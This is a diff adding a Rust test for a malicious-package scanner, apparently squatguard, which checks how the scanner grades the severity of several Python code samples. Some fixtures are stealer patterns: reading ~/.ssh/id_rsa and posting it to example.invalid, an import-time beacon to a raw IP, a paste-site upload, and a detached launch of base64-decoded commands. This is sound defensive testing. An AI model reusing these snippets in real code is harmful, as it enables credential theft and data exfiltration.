@@ -1548,3 +1548,76 @@ fn a_rebound_name_never_stands_for_the_file_that_runs() {
         assert!(flagged, "{what}: {all:?}");
     }
 }
+
+/// `scan --format json` of a repository holding `files`: the exit status and the findings.
+fn scan_files(files: &[(&str, &str)]) -> (Option<i32>, Vec<Value>) {
+    let dir = tempfile::tempdir().unwrap();
+    for (rel, text) in files {
+        write(dir.path(), rel, text);
+    }
+    let out = squatguard(dir.path(), &["scan", "--format", "json"]);
+    (out.status.code(), findings(&out))
+}
+
+#[test]
+fn severity_follows_capability_and_reach() {
+    // a stealer that reads an SSH key and posts it in one function: an error, called or not
+    let one = "import os\nimport requests\n\n\ndef steal():\n    key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n    requests.post(\"https://example.invalid/u\", data=key)\n";
+    let (code, all) = scan_files(&[("tools/sync.py", one)]);
+    assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
+    assert_eq!(code, Some(1));
+
+    // the same split across two functions that nothing calls unasked: a warning
+    let split = "import os\nimport requests\n\n\ndef read_key():\n    return open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n\n\ndef send(data):\n    requests.post(\"https://example.invalid/u\", data=data)\n";
+    let (code, all) = scan_files(&[("tools/sync.py", split)]);
+    assert_fires(&all, "credential-access", "tools/sync.py", 6, "warning");
+    assert_eq!(code, Some(0));
+
+    // ... and called at import: both run unasked, an error
+    let called = format!("{split}\n\nsend(read_key())\n");
+    let (code, all) = scan_files(&[("tools/sync.py", &called)]);
+    assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
+    assert_eq!(code, Some(1));
+
+    // an SSH client that loads known_hosts in one method and connects in another (paramiko)
+    let client = "import os\nimport socket\n\n\nclass SSHClient:\n    def load_system_host_keys(self):\n        self.known = os.path.expanduser(\"~/.ssh/known_hosts\")\n\n    def connect(self, host, port=22):\n        self.sock = socket.create_connection((host, port))\n";
+    let (code, all) = scan_files(&[("sshlib/client.py", client)]);
+    assert_fires(&all, "credential-access", "sshlib/client.py", 7, "warning");
+    assert_eq!(code, Some(0));
+
+    // an rc loader that can fetch a URL at import (matplotlib), beside a cache folder in the
+    // temporary directory and a decoding that nothing calls on import: a bare capability
+    let rc = "import base64\nimport tempfile\nimport urllib.request\n\n\ndef _cachedir():\n    return tempfile.mkdtemp(prefix=\"lib-\")\n\n\ndef _open(fname):\n    _cachedir()\n    if \"://\" in fname:\n        return urllib.request.urlopen(fname).read()\n    return open(fname).read()\n\n\ndef _unpack(s):\n    return base64.b64decode(s)\n\n\nrc = _open(\"librc\")\n";
+    let (code, all) = scan_files(&[("plotlib/__init__.py", rc)]);
+    assert_fires(&all, "import-time-code", "plotlib/__init__.py", 21, "warning");
+    assert_eq!(code, Some(0));
+
+    // an import-time post to a raw IP: an error
+    let beacon = "import urllib.request\n\n\ndef _ping():\n    urllib.request.urlopen(\"http://45.33.32.156/c\", data=b\"x\")\n\n\n_ping()\n";
+    let (code, all) = scan_files(&[("plotlib/__init__.py", beacon)]);
+    assert_fires(&all, "import-time-code", "plotlib/__init__.py", 8, "error");
+    assert_fires(&all, "exfil-endpoint", "plotlib/__init__.py", 5, "error");
+    assert_eq!(code, Some(1));
+
+    // a client of a paste site in a method nothing calls unasked (IPython's `%pastebin`): a
+    // warning; the same upload at import, an error
+    let paste = "from urllib.request import urlopen\n\n\nclass Magics:\n    def pastebin(self, code):\n        return urlopen(\"https://dpaste.com/api/v2/\", code.encode())\n";
+    let (code, all) = scan_files(&[("shell/magics.py", paste)]);
+    assert_fires(&all, "exfil-endpoint", "shell/magics.py", 6, "warning");
+    assert_eq!(code, Some(0));
+    let at_import = "from urllib.request import urlopen\n\nurlopen(\"https://dpaste.com/api/v2/\", b\"x\")\n";
+    let (code, all) = scan_files(&[("shell/magics.py", at_import)]);
+    assert_fires(&all, "exfil-endpoint", "shell/magics.py", 3, "error");
+    assert_eq!(code, Some(1));
+
+    // a detached launch beside a decoding in another, uncalled function: a warning; in the
+    // same function, an error
+    let apart = "import base64\nimport subprocess\n\n\ndef start(cmd):\n    subprocess.Popen(cmd, start_new_session=True)\n\n\ndef unpack(s):\n    return base64.b64decode(s)\n";
+    let (code, all) = scan_files(&[("svc/run.py", apart)]);
+    assert_fires(&all, "hidden-process", "svc/run.py", 6, "warning");
+    assert_eq!(code, Some(0));
+    let together = "import base64\nimport subprocess\n\n\ndef start(s):\n    subprocess.Popen(base64.b64decode(s).split(), start_new_session=True)\n";
+    let (code, all) = scan_files(&[("svc/run.py", together)]);
+    assert_fires(&all, "hidden-process", "svc/run.py", 6, "error");
+    assert_eq!(code, Some(1));
+}
